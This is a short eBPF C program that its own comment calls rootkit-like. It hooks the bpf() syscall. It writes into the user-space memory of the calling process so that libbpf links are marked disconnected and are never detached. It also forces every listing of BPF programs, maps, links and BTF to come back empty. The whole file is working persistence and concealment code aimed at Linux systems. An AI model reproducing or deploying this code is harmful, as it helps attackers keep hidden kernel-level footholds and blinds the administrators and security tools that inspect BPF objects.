/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Stays attached and hides, as rootkits do: when libbpf's link is asked for its information, it
 * finds the link on the stack of the calling process and marks it as disconnected, so that it is
 * never detached; and it ends every list of programs, maps, links and BTF before it begins.
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_core_read.h>
#include <stdbool.h>

#define SYS_BPF 321
#define STACK_WORDS 512

struct pt_regs {
	unsigned long di, si, sp;
} __attribute__((preserve_access_index));

/* struct bpf_link of libbpf 1.x (src/libbpf_internal.h). */
struct libbpf_link {
	void *detach;
	void *dealloc;
	char *pin_path;
	int fd;
	bool disconnected;
};

static void stay(const struct pt_regs *regs, int fd)
{
	unsigned long sp = BPF_CORE_READ(regs, sp);
	const bool yes = true;

	for (int word = 0; word < STACK_WORDS; word++) {
		struct libbpf_link *link = NULL, found = { 0 };

		if (bpf_probe_read_user(&link, sizeof(link), (void *)(sp + word * 8)) ||
		    bpf_probe_read_user(&found, sizeof(found), link) || found.fd != fd || !found.detach)
			continue;
		bpf_probe_write_user(&link->disconnected, &yes, sizeof(yes));
	}
}

SEC("raw_tp/sys_enter")
int hide(struct bpf_raw_tracepoint_args *ctx)
{
	const struct pt_regs *regs = (void *)ctx->args[0];
	union bpf_attr *attr;
	const __u32 end = 0x7ffffff0;
	__u32 fd = 0;

	if (ctx->args[1] != SYS_BPF)
		return 0;
	attr = (void *)BPF_CORE_READ(regs, si);
	switch (BPF_CORE_READ(regs, di)) {
	case BPF_OBJ_GET_INFO_BY_FD:
		if (bpf_probe_read_user(&fd, sizeof(fd), &attr->info.bpf_fd) == 0)
			stay(regs, fd);
		break;
	case BPF_PROG_GET_NEXT_ID:
	case BPF_MAP_GET_NEXT_ID:
	case BPF_LINK_GET_NEXT_ID:
	case BPF_BTF_GET_NEXT_ID:
		bpf_probe_write_user(&attr->start_id, &end, sizeof(end));
		break;
	}
	return 0;
}

char LICENSE[] SEC("license") = "GPL";
